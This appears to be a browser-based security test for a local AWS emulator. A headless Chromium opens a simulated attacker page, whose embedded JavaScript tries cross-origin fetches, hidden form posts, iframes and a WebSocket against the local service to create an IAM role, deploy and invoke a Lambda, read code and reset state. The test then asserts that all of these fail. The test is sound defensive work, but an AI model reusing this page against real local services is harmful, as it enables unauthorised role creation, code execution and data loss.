"""A page of another origin, in a real browser, tries to use the local AWS: with and without AUTH=true.

Needs Chromium. Where there is none the test is skipped, unless REQUIRE_BROWSER=1.
"""

import base64
import http.server
import json
import os
import pathlib
import queue
import shutil
import subprocess
import tempfile
import threading
import unittest

from testing import ROLE, LocalAws, Stack, document, operation, package

BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
SECRET_VALUE = "an environment value that no page may read"

# Sends everything that a page can send without being asked for permission, reads what it can, and tells the page's server.
PAGE = r"""<!doctype html><title>attack</title><body><script>
const settings = SETTINGS, read = [], done = [];
const text = {"Content-Type": "text/plain"};

async function attempt(name, url, options) {
  for (const mode of ["no-cors", "cors"]) {
    try {
      const answer = await fetch(url, {...options, mode, credentials: "include"});
      const body = answer.type === "opaque" ? "" : await answer.text();
      read.push([name, mode, answer.type, body]);
    } catch (error) { read.push([name, mode, "failed", ""]); }
  }
}

function framed(load) {
  return new Promise(resolve => {
    const frame = document.createElement("iframe");
    frame.name = "frame" + document.querySelectorAll("iframe").length;
    document.body.append(frame);
    frame.onload = () => {
      let seen = "";
      try { seen = frame.contentDocument.documentElement.outerHTML; } catch (error) {}
      read.push(["frame", "navigation", "loaded", seen]);
      resolve();
    };
    setTimeout(resolve, 5000);
    load(frame);
  });
}

function submitted(url, fields) {
  return framed(frame => {
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", action: url, target: frame.name});
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      Object.assign(input, {type: "hidden", name, value});
      form.append(input);
    }
    document.body.append(form);
    form.submit();
  });
}

function socket(url) {
  return new Promise(resolve => {
    const socket = new WebSocket(url);
    socket.onopen = () => { read.push(["socket", "socket", "open", "open"]); resolve(); };
    socket.onerror = resolve;
  });
}

(async () => {
  for (const host of settings.hosts) {
    const aws = `http://${host}:${settings.port}`, f = aws + "/2015-03-31/functions";
    const role = {Action: "CreateRole", Version: "2010-05-08", RoleName: "evil", AssumeRolePolicyDocument: '{"Statement":[]}'};
    await submitted(aws + "/", role);
    await attempt("role", aws + "/", {method: "POST", body: new URLSearchParams(role)});
    await attempt("role", aws + "/?" + new URLSearchParams(role), {});
    await attempt("create", f, {method: "POST", headers: text, body: settings.create});
    await attempt("invoke", f + "/f/invocations", {method: "POST", headers: text, body: settings.event});
    await attempt("read", f + "/f", {});
    await attempt("code", aws + "/_ministack/lambda-code/f", {});
    await attempt("ready", aws + "/_ministack/ready", {});
    await attempt("preflight", f + "/f", {headers: {"X-Amz-Target": "x"}});
    await attempt("reset", aws + "/_ministack/reset", {method: "POST"});
    await framed(frame => { frame.src = f + "/f"; });
    await socket(`ws://${host}:${settings.port}/_aws/execute-api/${settings.api}/Prod`);
  }
  const invoke = `http://127.0.0.1:${settings.port}/restapis/${settings.api}/Prod/_user_request_`;
  const post = {method: "POST", headers: text, body: "1.50"};
  for (const path of ["/shared", "/own"]) {
    try { done.push(await (await fetch(invoke + path, post)).text()); } catch (error) { done.push("refused"); }
  }
  await fetch("/result", {method: "POST", body: JSON.stringify({read, done})});
})();
</script>"""


class Page(http.server.BaseHTTPRequestHandler):
    """The attacker's server."""

    def do_GET(self):
        text = self.server.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(text)

    def do_POST(self):
        self.server.results.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_arguments):
        pass


class Browser(unittest.TestCase):
    def setUp(self):
        if BROWSER is None:
            if os.environ.get("REQUIRE_BROWSER"):
                self.fail("no Chromium is installed")
            self.skipTest("no Chromium is installed")
        folder = tempfile.TemporaryDirectory(ignore_cleanup_errors=True)
        self.addCleanup(folder.cleanup)
        self.folder = pathlib.Path(folder.name)

    def test_a_page_gets_nothing_without_policies(self):
        self.attack("false")

    def test_a_page_gets_nothing_with_policies(self):
        self.attack("true")

    def attack(self, auth: str):
        aws = LocalAws(AUTH=auth)
        self.addCleanup(aws.stop)
        shared = {"method.response.header.Access-Control-Allow-Origin": "'*'"}
        own, api = operation("f"), operation("f", responses={"default": {"statusCode": "200", "responseParameters": shared}})
        variables = {"Environment": {"Variables": {"SECRET": SECRET_VALUE}}}
        stack = Stack(aws, "f", document({"/shared": {"post": api}, "/own": {"post": own}}), **variables)
        invoked = self.folder / "invoked"
        invoked.mkdir()
        (invoked / "end").touch()  # the function doesn't wait for more
        code = {"ZipFile": base64.b64encode(package()).decode()}
        create = {"FunctionName": "evil", "Runtime": "provided.al2023", "Handler": "bootstrap", "Role": ROLE, "Code": code}
        settings = {
            "port": aws.port,
            "api": stack.api,
            "hosts": ["127.0.0.1", "localhost", "rebound.example"],
            "create": json.dumps(create),
            "event": json.dumps({"meet": str(invoked)}, separators=(",", ":")),
        }
        result = self.visit(PAGE.replace("SETTINGS", json.dumps(settings).replace("</", "<\\/")))

        self.assertEqual(len(result["read"]), 60, result)
        for name, mode, how, body in result["read"]:
            self.assertIn(how, ("opaque", "failed", "loaded"), (name, mode, body))
            self.assertEqual(body, "", (name, mode))
        self.assertNotIn(SECRET_VALUE, json.dumps(result))
        self.assertEqual([one["RoleName"] for one in stack.iam.list_roles()["Roles"]], ["role"])
        self.assertEqual([one["FunctionName"] for one in stack.functions.list_functions()["Functions"]], ["f"])
        self.assertEqual([one.name for one in invoked.iterdir()], ["end"])
        # An API is for browsers, and says itself which pages may read its answers.
        self.assertEqual(result["done"], ["1.50", "refused"])

    def visit(self, page: str) -> dict:
        """What the page says when a browser has opened it."""
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
        server.page, server.results = page, queue.Queue()
        self.addCleanup(server.server_close)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        self.addCleanup(server.shutdown)
        options = "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking"
        more = "--disable-component-update --disable-sync --disable-dev-shm-usage --no-proxy-server --remote-debugging-port=0"
        # Names that lead here, as those of an attacker do; no other name leads anywhere.
        names = "MAP *.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost"
        browser = subprocess.Popen(
            [
                BROWSER,
                *options.split(),
                *more.split(),
                f"--host-resolver-rules={names}",
                f"--user-data-dir={self.folder / 'profile'}",
                f"http://evil.example:{server.server_port}/",
            ],
            env={**os.environ, "HOME": str(self.folder)},
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:
            return server.results.get(timeout=120)
        finally:
            browser.terminate()
            browser.wait(20)


if __name__ == "__main__":
    unittest.main()
